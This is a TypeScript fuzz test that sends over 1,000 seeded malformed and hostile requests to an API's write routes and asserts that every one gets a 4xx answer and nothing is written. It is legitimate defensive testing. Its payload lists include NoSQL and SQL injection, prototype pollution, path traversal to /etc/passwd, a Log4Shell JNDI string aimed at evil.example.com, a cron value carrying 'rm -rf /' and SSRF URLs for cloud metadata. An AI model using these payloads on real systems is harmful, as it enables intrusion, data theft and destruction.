/**
 * Hostile input fuzz (issue 8 §3): well over 1,000 generated malformed or oversized requests to every write
 * route of the route table — bad types, missing and unknown fields, huge strings, deep JSON, broken JSON,
 * wrong content types, bodies over the limit, invalid cron, bad dates, operator-injection-looking values
 * (`{"$ne":1}`, `$where`, `__proto__`) in bodies, paths and query strings, and other tenants' IDs.
 * Every answer must be a 4xx with a message, none a 5xx, and nothing may be written: the whole database is
 * digested before and after, and the orchestrator port must not be called.
 *
 * Requests are generated from a seeded PRNG: a failure names the seed and the request's index, and
 * `PATCHWAVE_FUZZ_SEED=<seed>` replays the same sequence. A generated body is only sent when it is invalid by
 * construction or the route's own schema refuses it (so a mutation that happens to be valid is never sent).
 *
 * Extends api-malformed.test.ts (fixed malformed bodies, 400 naming the field) with volume, variety, other
 * tenants, paths and query strings. Route-level, with the recording orchestrator of api-harness.ts.
 */
import { createHash } from 'node:crypto';
import { API_ROUTES } from '../../api/routes';
import type { AnyRoute } from '../../api/route-table';
import { cronError } from '../../api/cron';
import { startApi, machineBody, planBody, type ApiHarness } from './api-harness';
import { CASES, fixtures, type Fixtures } from './api-cases';
import { seededRandom } from '../helpers/seeded-random';

jest.setTimeout(300_000);

const SEED = Number(process.env.PATCHWAVE_FUZZ_SEED ?? 8_2026_11);
const PER_ROUTE = 40;

let h: ApiHarness;
beforeAll(async () => {
  h = await startApi('fuzz');
});
afterAll(async () => {
  await h?.close();
});

// ---------------------------------------------------------------------------------------------------------
// Seeded randomness

let rnd = seededRandom(SEED);
const int = (n: number) => Math.floor(rnd() * n);
const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)];

// ---------------------------------------------------------------------------------------------------------
// Hostile values

const INJECTIONS: unknown[] = [
  { $ne: 1 },
  { $ne: null },
  { $gt: '' },
  { $where: 'sleep(1000)' },
  { $regex: '.*' },
  { $in: ['a', 'b'] },
  { $expr: { $eq: [1, 1] } },
  { constructor: { prototype: { admin: true } } },
  [{ $gt: '' }],
];

const STRINGS = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  '<script>alert(1)</script>',
  "'; DROP TABLE machines; --",
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example.com/a}',
  '{{7*7}}',
  '$where',
  'db.machines.drop()',
  '%00',
  'ñ'.repeat(300),
];

function badScalar(): unknown {
  return pick<() => unknown>([
    () => null,
    () => true,
    () => 0,
    () => -1,
    () => 1.5,
    () => 1e308,
    () => -1e308,
    () => Number.MAX_SAFE_INTEGER + 2,
    () => [],
    () => {},
    () => [[[]]],
    () => pick(STRINGS),
    () => pick(INJECTIONS),
    () => hugeString(),
  ])();
}

function hugeString(): string {
  return pick(['x', 'é', '$', '\u2028', 'A1']).repeat(pick([5_000, 20_000, 100_000, 300_000]));
}

const INVALID_CRONS = [
  '',
  '* * * *',
  '* * * * * *',
  '61 * * * *',
  '0 25 * * *',
  '0 0 32 * *',
  '0 0 * 13 *',
  '0 0 * * 9',
  '@reboot',
  'every day',
  '*/0 * * * *',
  '0 0 1,2, * *',
  '0 3 * * 0; rm -rf /',
  '0 0 30 2 *',
  '* * * * * * * * * * * *',
  'x'.repeat(5000),
];

const BAD_IDS = [
  'mch_doesnotexist0001',
  'pln_doesnotexist0001',
  'x'.repeat(129),
  'a'.repeat(5000),
  '%7B%22%24ne%22%3A1%7D',
  encodeURIComponent('{"$gt":""}'),
  '%24where',
  '..%2F..%2Fetc%2Fpasswd',
  '*',
  '.*',
  '%00',
  '-leading-dash',
  'ünïcode',
  'null',
  'undefined',
  '__proto__',
  'constructor',
];

// ---------------------------------------------------------------------------------------------------------
// Body shapes

type Path = (string | number)[];

function leaves(v: unknown, at: Path = [], out: Path[] = []): Path[] {
  if (v && typeof v === 'object') {
    const entries = Array.isArray(v) ? v.map((x, i) => [i, x] as const) : Object.entries(v);
    if (entries.length === 0) out.push(at);
    for (const [k, x] of entries) leaves(x, [...at, k], out);
  } else out.push(at);
  return out;
}

function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  cur[path[path.length - 1]] = value;
  return copy;
}

function deleteAt(root: unknown, path: Path): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (Array.isArray(cur)) cur.splice(Number(last), 1);
  else delete cur[last];
  return copy;
}

function topFields(r: AnyRoute, base: unknown): string[] {
  const shape = (r.body as unknown as { shape?: Record<string, unknown> }).shape;
  const known = [
    'name',
    'description',
    'cron',
    'window_hours',
    'machines',
    'channels',
    'rules',
    'steps',
    'enabled',
  ];
  return [...new Set([...Object.keys(shape ?? {}), ...Object.keys((base as object) ?? {}), ...known])];
}

/** What the server will see: JSON drops undefined and turns NaN into null. */
const viaJson = (v: unknown) => (v === undefined ? undefined : JSON.parse(JSON.stringify(v)));

/** The route's own schema refuses it, so the API must answer 400. */
function schemaRefuses(r: AnyRoute, body: unknown): boolean {
  return !r.body!.safeParse(viaJson(body)).success;
}

// ---------------------------------------------------------------------------------------------------------
// Requests

interface FuzzRequest {
  route: string;
  strategy: string;
  method: string;
  path: string;
  key: 'A' | 'B';
  body?: unknown;
  raw?: string;
  headers?: Record<string, string>;
}

interface Tenants {
  a: Fixtures;
  b: { machine: string; plan: string; group: string; role: string };
}

/** Routes whose valid call from another tenant still names tenant A's objects (in the path or the body). */
const BODY_REFERENCES_A: Record<string, (t: Tenants) => unknown> = {
  createPlan: (t) => planBody([t.a.machineFree]),
  createPipeline: (t) => ({ name: 'p', cron: '0 2 * * 1', steps: [{ plans: [t.a.planFree] }] }),
  createEvent: (t) => ({ plan_id: t.a.planFree, start: future(40), end: future(40.05) }),
  createRoleBinding: (t) => ({ api_key_id: t.a.apiKey, role_id: t.a.role }),
  createApiKey: (t) => ({ name: 'k', role_ids: [t.a.role] }),
  createCustomer: () => ({ name: `c-${int(1e9)}` }),
};

/** Tenant B's objects, for tenant A's key (A is the bootstrap customer, but owns none of these). */
const B_PATHS: Record<string, (t: Tenants) => string> = {
  replaceMachine: (t) => `/api/v1/machines/${t.b.machine}`,
  patchMachine: (t) => `/api/v1/machines/${t.b.machine}`,
  deleteMachine: (t) => `/api/v1/machines/${t.b.machine}`,
  replacePlan: (t) => `/api/v1/plans/${t.b.plan}`,
  patchPlan: (t) => `/api/v1/plans/${t.b.plan}`,
  deletePlan: (t) => `/api/v1/plans/${t.b.plan}`,
  executePlan: (t) => `/api/v1/plans/${t.b.plan}/execute`,
  replaceNotificationGroup: (t) => `/api/v1/notification-groups/${t.b.group}`,
  patchNotificationGroup: (t) => `/api/v1/notification-groups/${t.b.group}`,
  deleteNotificationGroup: (t) => `/api/v1/notification-groups/${t.b.group}`,
  replaceRole: (t) => `/api/v1/roles/${t.b.role}`,
  patchRole: (t) => `/api/v1/roles/${t.b.role}`,
  deleteRole: (t) => `/api/v1/roles/${t.b.role}`,
};

function future(days: number): string {
  return new Date(Date.now() + days * 86_400_000).toISOString();
}

function withBadId(path: string): string {
  const parts = path.split('/');
  // The last id-looking segment (…/:id or …/:id/execute, …/machines/:machine_id/status).
  const idx = parts.map((p, i) => (/^[a-z]{2,4}_|^default$|-\d{8}T/.test(p) ? i : -1)).filter((i) => i >= 0);
  if (idx.length === 0) return path;
  parts[pick(idx)] = pick(BAD_IDS);
  return parts.join('/');
}

function generate(r: AnyRoute, t: Tenants, n: number): FuzzRequest[] {
  const out: FuzzRequest[] = [];
  const base = CASES[r.operationId](t.a);
  const method = r.method.toUpperCase();
  const hasParams = r.path.includes(':');
  const strategies: [string, () => FuzzRequest | undefined][] = [];
  const add = (
    name: string,
    weight: number,
    make: () => Omit<FuzzRequest, 'route' | 'strategy' | 'method'> | undefined,
  ) => {
    for (let i = 0; i < weight; i++)
      strategies.push([
        name,
        () => {
          const q = make();
          return q && { route: r.operationId, strategy: name, method, ...q };
        },
      ]);
  };
  const A = { key: 'A' as const, path: base.path };

  add('deep-json', 1, () => {
    const depth = pick([1_000, 10_000, 100_000]);
    return { ...A, raw: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) };
  });
  add('broken-json', 2, () => ({
    ...A,
    raw: pick([
      '{',
      '{"a":1,}',
      "{'a':1}",
      '{"a": undefined}',
      'NaN',
      '"x"',
      '42',
      'tru',
      '{"a":1}{"b":2}',
      '\u0000{}',
      '{"__proto__":{"admin":true}}garbage',
    ]),
  }));
  add('query-injection', 2, () =>
    r.query
      ? undefined
      : {
          ...A,
          path: `${base.path}?${pick(['$where=1', 'id[$ne]=1', '__proto__[admin]=1', 'filter={"$gt":""}', 'customer_id=other', `limit=${'9'.repeat(50)}`])}`,
          ...(base.body !== undefined ? { body: base.body } : {}),
        },
  );
  if (hasParams) {
    add('bad-path-id', 4, () => ({
      ...A,
      path: withBadId(base.path),
      ...(base.body !== undefined ? { body: base.body } : {}),
    }));
  }
  if (hasParams && r.operationId !== 'createApiKey') {
    const crossPath = /customers|api-keys|role-bindings/.test(r.path) ? undefined : base.path;
    if (crossPath)
      add('other-tenant-path', 4, () => ({
        key: 'B',
        path: crossPath,
        ...(base.body !== undefined ? { body: base.body } : {}),
      }));
  }
  if (BODY_REFERENCES_A[r.operationId]) {
    add('other-tenant-body', 6, () => ({
      key: 'B',
      path: base.path,
      body: BODY_REFERENCES_A[r.operationId](t),
    }));
  }
  if (B_PATHS[r.operationId]) {
    add('tenant-b-object', 3, () => ({
      ...A,
      path: B_PATHS[r.operationId](t),
      ...(base.body !== undefined ? { body: base.body } : {}),
    }));
  }

  if (!r.body) {
    add('body-on-bodiless-route', 4, () => ({
      ...A,
      body: pick<unknown>([[1], { $ne: 1 }, { a: 1 }, [{ $where: 'x' }], { __unknown__: true }]),
    }));
  } else {
    const fields = topFields(r, base.body);
    const leafPaths = leaves(base.body).filter((p) => p.length > 0);
    const oracle = (body: unknown) => (schemaRefuses(r, body) ? { ...A, body } : undefined);
    add('wrong-type', 5, () => oracle(setAt(base.body, [pick(fields)], badScalar())));
    add('missing-field', 2, () => {
      const keys = Object.keys((base.body as object) ?? {});
      return keys.length ? oracle(deleteAt(base.body, [pick(keys)])) : undefined;
    });
    add('unknown-field', 2, () =>
      oracle({
        ...(base.body as object),
        [pick(['$where', '__unknown__', '$set', 'customer_id', '_id', 'secret_hash'])]: pick<unknown>([
          1,
          'x',
          { $ne: 1 },
        ]),
      }),
    );
    add('huge-string', 3, () =>
      leafPaths.length
        ? oracle(setAt(base.body, pick(leafPaths), hugeString()))
        : oracle({ name: hugeString() }),
    );
    add('nested-injection', 4, () =>
      leafPaths.length ? oracle(setAt(base.body, pick(leafPaths), pick(INJECTIONS))) : undefined,
    );
    add('not-an-object', 2, () => oracle(pick<unknown>([[], [1, 2], [{}], ['x'], [base.body]])));
    add('wrong-content-type', 2, () => ({
      ...A,
      raw: JSON.stringify(base.body),
      headers: {
        'content-type': pick([
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
        ]),
      },
    }));
    add('oversized', 1, () => ({ ...A, raw: `{"name":"${'x'.repeat(1_100_000 + int(500_000))}"}` }));
    if (topFields(r, base.body).includes('cron') && /plan|pipeline/i.test(r.operationId)) {
      add('invalid-cron', 4, () => {
        const cron = pick(INVALID_CRONS);
        if (!cronError(cron)) return undefined;
        return { ...A, body: { ...(base.body as object), cron } };
      });
    }
    if (r.operationId === 'createEvent') {
      add('bad-dates', 8, () => {
        const b = base.body as { plan_id: string; start: string; end: string };
        const start = Date.parse(b.start);
        return {
          ...A,
          body: pick<object>([
            {
              ...b,
              start: pick([
                '2024-13-01T00:00:00Z',
                '2024-02-30T00:00:00Z',
                'yesterday',
                '',
                '2030-01-01',
                '2030-01-01T25:00:00Z',
                '+275760-09-13T00:00:01Z',
              ]),
            },
            { ...b, end: pick(['not a date', '0', '2030-01-01T00:00:00', '2030-01-01T00:00:00+25:00']) },
            { ...b, start: pick<unknown>([0, -1, 1e20, null, { $gt: '' }, ['2030-01-01T00:00:00Z']]) },
            { ...b, end: b.start },
            { ...b, end: new Date(start - 3_600_000).toISOString() },
            { ...b, start: future(-3), end: future(-2.9) },
            { ...b, end: new Date(start + 30_000).toISOString() },
          ]),
        };
      });
    }
    // Valid-looking plan bodies with a refused hook URL (the SSRF guard at save time).
    if (r.operationId === 'createPlan' || r.operationId === 'replacePlan') {
      add('ssrf-hook', 3, () => ({
        ...A,
        body: planBody([t.a.machineFree], {
          pre_hooks: [
            {
              type: 'azure',
              source: pick([
                'https://169.254.169.254/latest/meta-data/',
                'http://evil.example.com/x?code=1',
                'https://[fd00:ec2::254]/',
                'https://127.0.0.2/',
                'file:///etc/passwd',
                'gopher://x',
              ]),
            },
          ],
        }),
      }));
    }
  }

  for (let guard = 0; out.length < n && guard < n * 50; guard++) {
    const [, make] = pick(strategies);
    const q = make();
    if (q) out.push(q);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------

async function storeDigest(): Promise<string> {
  const hash = createHash('sha256');
  const names = (await h.db.listCollections().toArray()).map((c) => c.name).sort();
  for (const n of names) {
    const docs = await h.db.collection(n).find({}).sort({ _id: 1 }).toArray();
    hash.update(n + JSON.stringify(docs.map(({ last_used_at, ...d }) => (void last_used_at, d))));
  }
  return hash.digest('hex');
}

const writeRoutes = API_ROUTES.filter((r) => r.method !== 'get');

test(`≥ 1,000 hostile requests to every write route: only 4xx with a message, nothing written (seed ${SEED})`, async () => {
  rnd = seededRandom(SEED);
  const a = await fixtures(h);
  const tenantB = await h.newCustomer('fuzz-b');
  const asB = (method: string, path: string, body: unknown) =>
    h.request(method, path, { key: tenantB.adminKey, body });
  const bMachine = (await asB('POST', '/api/v1/machines', machineBody(990_001))).body.id as string;
  const bPlan = (await asB('POST', '/api/v1/plans', planBody([bMachine]))).body.id as string;
  const bGroup = (
    await asB('POST', '/api/v1/notification-groups', {
      name: 'b',
      channels: [{ type: 'email', to: ['b@example.com'] }],
    })
  ).body.id as string;
  const bRole = (
    await asB('POST', '/api/v1/roles', { name: 'b-role', rules: [{ resources: ['plan'], actions: ['get'] }] })
  ).body.id as string;
  for (const id of [bMachine, bPlan, bGroup, bRole]) expect(id).toBeTruthy();
  const tenants: Tenants = { a, b: { machine: bMachine, plan: bPlan, group: bGroup, role: bRole } };

  expect(writeRoutes.length).toBeGreaterThanOrEqual(30);
  const requests = writeRoutes.flatMap((r) => generate(r, tenants, PER_ROUTE));
  expect(requests.length).toBeGreaterThanOrEqual(1_000);

  const before = await storeDigest();
  const calls = h.orchestrator.calls.length;
  const failures: string[] = [];
  const byStrategy = new Map<string, number>();
  const byStatus = new Map<number, number>();
  for (const [i, q] of requests.entries()) {
    const r = await h.request(q.method, q.path, {
      key: q.key === 'A' ? h.adminKey : tenantB.adminKey,
      ...(q.raw !== undefined ? { raw: q.raw } : q.body !== undefined ? { body: q.body } : {}),
      ...(q.headers ? { headers: q.headers } : {}),
    });
    byStrategy.set(q.strategy, (byStrategy.get(q.strategy) ?? 0) + 1);
    byStatus.set(r.status, (byStatus.get(r.status) ?? 0) + 1);
    const message = r.body?.error?.message;
    if (r.status < 400 || r.status > 499 || typeof message !== 'string' || message.length === 0) {
      const shown = (q.raw ?? JSON.stringify(q.body) ?? '').slice(0, 200);
      failures.push(
        `#${i} [${q.strategy}] ${q.key} ${q.method} ${q.path.slice(0, 150)} ${shown} → ${r.status} ${r.text.slice(0, 300)}`,
      );
    }
  }
  console.log(
    `[fuzz] seed ${SEED}: ${requests.length} requests over ${writeRoutes.length} write routes; ` +
      `by strategy ${JSON.stringify(Object.fromEntries(byStrategy))}; by status ${JSON.stringify(Object.fromEntries(byStatus))}`,
  );
  expect({ seed: SEED, failures: failures.slice(0, 20), failed: failures.length }).toEqual({
    seed: SEED,
    failures: [],
    failed: 0,
  });
  expect(h.orchestrator.calls.length).toBe(calls);
  expect(await storeDigest()).toBe(before);
  // Each route got its share.
  for (const r of writeRoutes)
    expect([r.operationId, requests.filter((q) => q.route === r.operationId).length]).toEqual([
      r.operationId,
      PER_ROUTE,
    ]);
});
